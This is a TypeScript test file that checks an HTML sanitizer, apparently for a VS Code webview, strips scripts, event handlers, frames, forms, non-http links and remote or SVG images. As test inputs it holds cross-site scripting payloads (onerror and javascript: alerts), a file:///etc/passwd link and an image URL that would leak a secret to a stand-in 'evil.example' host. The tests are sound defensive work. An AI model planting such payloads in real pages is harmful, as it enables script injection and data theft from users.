// The second wall: whatever HTML reaches the sanitizer, no script, handler, remote load or
// non-http link survives.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { createSanitizer } from '../../src/webview/sanitize';
import { renderAll } from '../../src/webview/markdownBlocks';

const { window } = new JSDOM('<!DOCTYPE html><body></body>');
const sanitizer = createSanitizer(window as unknown as Window & typeof globalThis);

test('scripts, handlers, frames, forms and styles are removed', () => {
  const html = sanitizer.toHtml(
    '<p onclick="x()">a<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="https://e.example"></iframe><form action="https://e.example"><input></form><style>*{}</style><svg><script>1</script></svg><a href="javascript:alert(1)">j</a><a href="command:workbench.action.quit">c</a><a href="https://ok.example/" target="_blank">ok</a></p>',
  );
  assert.doesNotMatch(html, /script|onerror|onclick|iframe|<form|<input|<style|<svg|javascript:|command:|target=/i);
  assert.match(html, /<a href="https:\/\/ok.example\/">ok<\/a>/);
});

test('a link keeps its href only when it is http(s); any other keeps just its text', () => {
  const others = [
    'mailto:someone@example.com',
    'MAILTO:x@example.com',
    'tel:+15550100',
    'file:///etc/passwd',
    'vscode://flashlight-dev.flashlight/x',
    'ftp://files.example/x',
    'data:text/plain,hi',
    '#section',
    'relative/path',
    '//evil.example/x',
    ' mailto:x@example.com',
  ];
  const html = `<p>${others.map((href, index) => `<a href="${href}">other ${index}</a>`).join(' ')} <a href="http://a.example/">plain</a> <a href="HTTPS://b.example/">secure</a></p>`;
  const container = window.document.createElement('div');
  container.append(sanitizer.toFragment(html));
  const links = [...container.querySelectorAll('a')];
  assert.deepEqual(
    links.map((link) => link.getAttribute('href')),
    [...others.map(() => null), 'http://a.example/', 'HTTPS://b.example/'],
  );
  others.forEach((_, index) => assert.ok(container.textContent.includes(`other ${index}`), `the text of link ${index} stays`));
});

test('markdown links and autolinks to mailto: keep no href, only their text', () => {
  const container = window.document.createElement('div');
  container.append(
    sanitizer.toFragment(renderAll('[write to us](mailto:team@example.com), <mailto:a@example.com>, b@example.com and [the site](https://example.com/)\n')),
  );
  assert.deepEqual(
    [...container.querySelectorAll('a[href]')].map((link) => link.getAttribute('href')),
    ['https://example.com/'],
  );
  for (const text of ['write to us', 'a@example.com', 'b@example.com', 'the site']) assert.ok(container.textContent.includes(text), text);
});

test('only data images of raster types keep their source', () => {
  const html = sanitizer.toHtml(
    '<img src="https://evil.example/?q=SECRET"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:image/png;base64,iVBORw0KGgo=">',
  );
  assert.doesNotMatch(html, /evil\.example|svg\+xml/);
  assert.match(html, /data:image\/png;base64/);
});

test('a fragment is produced without a second parse and holds no active content', () => {
  const fragment = sanitizer.toFragment(renderAll('[x](javascript:alert(1)) <script>alert(1)</script>\n\n```html\n<script>alert(2)</script>\n```\n'));
  const container = window.document.createElement('div');
  container.append(fragment);
  assert.equal(container.querySelectorAll('script').length, 0);
  assert.equal(container.querySelector('a')?.getAttribute('href') ?? null, null);
  assert.match(container.textContent ?? '', /<script>alert\(2\)<\/script>/, 'code is shown as text');
});
